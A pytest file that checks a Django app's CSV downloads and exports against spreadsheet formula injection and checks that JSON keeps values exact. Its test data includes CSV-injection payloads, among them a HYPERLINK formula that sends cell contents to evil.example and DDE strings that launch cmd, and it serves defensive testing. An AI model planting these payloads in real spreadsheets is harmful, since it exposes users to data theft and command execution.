"""No CSV the app writes can run as a spreadsheet formula; JSON stays exact.

Titles, program names and labels come from imported text, so an attacker
chooses them. Every cell starting with = + - @ tab or CR is written as text
(a leading '), as OWASP advises; plain numbers are left as numbers.
"""
import csv
import io
import json

import pytest
from django.core.management import call_command

from tests.factories import FENGTAI, HEXI

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile(build):
    """An article, a program and a metric for each payload, in 丰台区."""
    text = "丰台区人才工作：" + "；".join(f"指标{i}达到{i + 1}0个" for i in range(len(PAYLOADS))) + "。"
    made = []
    for i, payload in enumerate(PAYLOADS):
        article = build.article(f"{text}（第{i}稿）", [FENGTAI], title=payload)
        program = build.program(payload, article, f"指标{i}", adcode=FENGTAI)
        metric = build.metric(article, f"指标{i}达到{i + 1}0个", label=payload, value=(i + 1) * 10,
                              program=program, adcode=FENGTAI)
        made.append((article, program, metric))
    return made


def cells(text: str):
    for row in csv.reader(io.StringIO(text)):
        yield from row


def assert_neutralised(text: str):
    found = set()
    for cell in cells(text):
        if cell.startswith(DANGEROUS):
            float(cell)  # only a number may start so
        found.add(cell.replace("\r\n", "\n").replace("\r", "\n"))
    for payload in PAYLOADS:
        assert "'" + payload.replace("\r", "\n") in found, payload


def streamed(response) -> str:
    assert response.status_code == 200
    return b"".join(response.streaming_content).decode("utf-8-sig")


@pytest.mark.parametrize("url", ["/articles/", "/programs/", "/metrics/"])
def test_list_downloads_neutralise_formulas(client, hostile, url):
    assert_neutralised(streamed(client.get(url, {"format": "csv"})))


def test_search_download_neutralises_formulas(client, hostile):
    text = streamed(client.get("/search/", {"q": "指标", "format": "csv"}))
    for cell in cells(text):
        if cell.startswith(DANGEROUS):
            float(cell)


def test_compare_download_neutralises_formulas_and_writes_no_none(client, hostile, kb):
    text = streamed(client.get("/compare/", {"d": [FENGTAI, HEXI], "format": "csv"}))
    for cell in cells(text):
        if cell.startswith(DANGEROUS):
            float(cell)
    assert "None" not in text
    rows = list(csv.DictReader(io.StringIO(text)))
    assert any(r["reported"] == "true" and r["value_max"] == "" for r in rows)


def test_export_kb_csv_neutralises_formulas(hostile, tmp_path):
    call_command("export_kb", "--format", "csv", "-o", str(tmp_path), verbosity=0)
    for name in ("articles", "programs", "metrics"):
        text = (tmp_path / f"{name}.csv").read_text(encoding="utf-8-sig")
        assert_neutralised(text)


def test_json_keeps_the_values_exactly(client, hostile, tmp_path):
    data = json.loads(streamed(client.get("/programs/", {"format": "json"})))
    assert {r["name"] for r in data["results"]} >= set(PAYLOADS)
    call_command("export_kb", "--format", "json", "-o", str(tmp_path / "kb.json"), verbosity=0)
    kb = json.loads((tmp_path / "kb.json").read_text(encoding="utf-8"))
    assert {m["label"] for m in kb["metrics"]} >= set(PAYLOADS)
